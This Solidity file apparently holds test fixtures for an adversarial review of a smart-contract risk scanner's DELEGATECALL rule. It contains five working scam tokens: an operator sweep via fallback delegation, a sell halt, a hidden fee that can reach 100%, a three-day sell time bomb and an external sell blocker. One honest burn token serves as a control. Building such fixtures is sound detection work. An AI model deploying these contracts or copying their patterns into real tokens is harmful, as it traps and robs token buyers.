// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";

/// Tokens for the adversarial review of vigil-risk/51 (external_call passes a DELEGATECALL to
/// fixed code that cannot change: scanner/evm/fixedModules.ts): scanner/evm/fixedModules.attacks.test.ts.
/// Each token creates its module(s) in its constructor and keeps the address as an immutable, so
/// every DELEGATECALL target is a constant in the runtime code; no module can destroy itself,
/// none delegates anywhere else. The insider is an operator wallet the token names nowhere in
/// storage: labelledWallet('fx', 'operator') in the test.

/// The storage layout every Fx token and every module that writes token storage shares: a module
/// runs in the token's storage, so it declares the same variables in the same order.
abstract contract FxLayout is ERC20, Ownable {
    address internal constant OPERATOR = address(uint160(uint256(keccak256("fx.operator"))));

    address public pair;
    bool internal halted;
    uint256 internal deployedAt;

    constructor(string memory name_) ERC20(name_, "FX") Ownable(msg.sender) {}
}

abstract contract FxToken is FxLayout {
    address internal immutable MODULE;

    constructor(string memory name_, uint256 supply, address module) FxLayout(name_) {
        MODULE = module;
        deployedAt = block.timestamp;
        _mint(msg.sender, supply);
    }

    function setPair(address newPair) external onlyOwner {
        require(pair == address(0), "set");
        pair = newPair;
    }

    function _delegate(bytes memory data) internal returns (bytes memory) {
        (bool ok, bytes memory ret) = MODULE.delegatecall(data);
        if (!ok) {
            assembly {
                revert(add(ret, 32), mload(ret))
            }
        }
        return ret;
    }
}

// ---------------------------------------------------------------------------------------------
// Attack 1: a fallback that delegates any call to the module, whose own function (a selector the
// token's dispatcher never compares) lets the operator take any holder's tokens.
// ---------------------------------------------------------------------------------------------

contract FxSweepModule is FxLayout {
    constructor() FxLayout("module") {}

    function sweep(address from, uint256 amount) external {
        require(msg.sender == OPERATOR, "operator only");
        _transfer(from, OPERATOR, amount);
    }
}

/// Scam: sweep(holder, amount) sent to the token runs the module's sweep in the token's storage.
contract FxFallbackSweep is FxToken {
    constructor(uint256 supply) FxToken("Fallback Sweep", supply, address(new FxSweepModule())) {}

    fallback() external {
        _delegate(msg.data);
    }
}

// ---------------------------------------------------------------------------------------------
// Attack 2: every transfer asks the module whether it may go; the module reads a flag in the
// token's storage that only its own function sets, reached through a plugin entry point that
// passes any calldata to the module.
// ---------------------------------------------------------------------------------------------

contract FxHaltModule is FxLayout {
    constructor() FxLayout("module") {}

    function check(address from, address to) external view {
        if (halted && to == pair && from != address(0)) revert("halted");
    }

    function halt() external {
        require(msg.sender == OPERATOR, "operator only");
        halted = true;
    }
}

/// Scam: plugin(abi.encodeCall(halt, ())) from the operator stops every sell to the pair.
contract FxPluginHalt is FxToken {
    constructor(uint256 supply) FxToken("Plugin Halt", supply, address(new FxHaltModule())) {}

    function plugin(bytes calldata data) external {
        _delegate(data);
    }

    function _update(address from, address to, uint256 value) internal override {
        if (from != address(0)) _delegate(abi.encodeCall(FxHaltModule.check, (from, to)));
        super._update(from, to, value);
    }
}

// ---------------------------------------------------------------------------------------------
// Attack 3: the module keeps its setting in its OWN storage (read back with a call to its own
// address): fixed code, mutable behaviour. The operator sets it by calling the module directly.
// ---------------------------------------------------------------------------------------------

contract FxFeeModule {
    address internal constant OPERATOR = address(uint160(uint256(keccak256("fx.operator"))));
    address internal immutable HOME;
    uint256 public sellFeeBps;

    constructor() {
        HOME = address(this);
    }

    function setSellFee(uint256 bps) external {
        require(msg.sender == OPERATOR, "operator only");
        require(bps <= 10_000, "bps");
        sellFeeBps = bps;
    }

    /// Run in the token's storage: the fee is read from the module's own, at its own address.
    function sellFee(uint256 amount) external view returns (uint256) {
        return (amount * FxFeeModule(HOME).sellFeeBps()) / 10_000;
    }
}

/// Scam: a 0 % sell fee today; setSellFee(10000) on the module takes every sell for the operator.
contract FxSelfStoredFee is FxToken {
    constructor(uint256 supply) FxToken("Self Stored Fee", supply, address(new FxFeeModule())) {}

    function _update(address from, address to, uint256 value) internal override {
        if (from != address(0) && to == pair && pair != address(0)) {
            uint256 fee = abi.decode(_delegate(abi.encodeCall(FxFeeModule.sellFee, (value))), (uint256));
            if (fee > 0) {
                super._update(from, OPERATOR, fee);
                value -= fee;
            }
        }
        super._update(from, to, value);
    }
}

// ---------------------------------------------------------------------------------------------
// Attack 4: a time bomb in the module: sells stop three days after deployment.
// ---------------------------------------------------------------------------------------------

contract FxBombModule is FxLayout {
    constructor() FxLayout("module") {}

    function check(address from, address to) external view {
        if (to == pair && from != address(0) && block.timestamp > deployedAt + 3 days) revert("closed");
    }
}

/// Scam: every sell to the pair reverts once three days have passed.
contract FxTimeBomb is FxToken {
    constructor(uint256 supply) FxToken("Time Bomb", supply, address(new FxBombModule())) {}

    function _update(address from, address to, uint256 value) internal override {
        if (from != address(0)) _delegate(abi.encodeCall(FxBombModule.check, (from, to)));
        super._update(from, to, value);
    }
}

// ---------------------------------------------------------------------------------------------
// Attack 5 (honest): a 1 % burn on transfers, its parts computed by five stateless modules.
// ---------------------------------------------------------------------------------------------

contract FxPartModule {
    uint256 internal immutable PART;

    constructor(uint256 part) {
        PART = part;
    }

    function part(uint256 amount) external view returns (uint256) {
        return (amount * PART) / 10_000;
    }
}

/// Honest: five fixed, stateless modules, each a fifth of a 1 % burn.
contract FxFiveModules is FxLayout {
    address internal immutable M1;
    address internal immutable M2;
    address internal immutable M3;
    address internal immutable M4;
    address internal immutable M5;

    constructor(uint256 supply) FxLayout("Five Modules") {
        M1 = address(new FxPartModule(20));
        M2 = address(new FxPartModule(20));
        M3 = address(new FxPartModule(20));
        M4 = address(new FxPartModule(20));
        M5 = address(new FxPartModule(20));
        _mint(msg.sender, supply);
    }

    function setPair(address newPair) external onlyOwner {
        require(pair == address(0), "set");
        pair = newPair;
    }

    function _part(address module, uint256 value) internal returns (uint256) {
        (bool ok, bytes memory ret) = module.delegatecall(abi.encodeCall(FxPartModule.part, (value)));
        require(ok, "part");
        return abi.decode(ret, (uint256));
    }

    function _update(address from, address to, uint256 value) internal override {
        if (from != address(0) && to != address(0)) {
            uint256 burn = _part(M1, value) + _part(M2, value) + _part(M3, value) + _part(M4, value)
                + _part(M5, value);
            super._update(from, address(0), burn);
            value -= burn;
        }
        super._update(from, to, value);
    }
}

// ---------------------------------------------------------------------------------------------
// Attack 6: the module CALLs (does not delegate to) a policy contract the operator owns, an
// ordinary Ownable whose owner is in its storage, and stops sells when the policy says so.
// ---------------------------------------------------------------------------------------------

contract FxSellPolicy is Ownable {
    bool public sellsBlocked;

    constructor(address owner_) Ownable(owner_) {}

    function setSellsBlocked(bool blocked) external onlyOwner {
        sellsBlocked = blocked;
    }
}

contract FxPolicyModule is FxLayout {
    FxSellPolicy internal immutable POLICY;

    constructor(FxSellPolicy policy) FxLayout("module") {
        POLICY = policy;
    }

    function check(address from, address to) external view {
        if (to == pair && from != address(0) && POLICY.sellsBlocked()) revert("sells blocked");
    }
}

/// Scam: the operator's setSellsBlocked(true) on the policy stops every sell to the pair.
contract FxPolicySell is FxToken {
    constructor(uint256 supply)
        FxToken("Policy Sell", supply, address(new FxPolicyModule(new FxSellPolicy(OPERATOR))))
    {}

    function _update(address from, address to, uint256 value) internal override {
        if (from != address(0)) _delegate(abi.encodeCall(FxPolicyModule.check, (from, to)));
        super._update(from, to, value);
    }
}
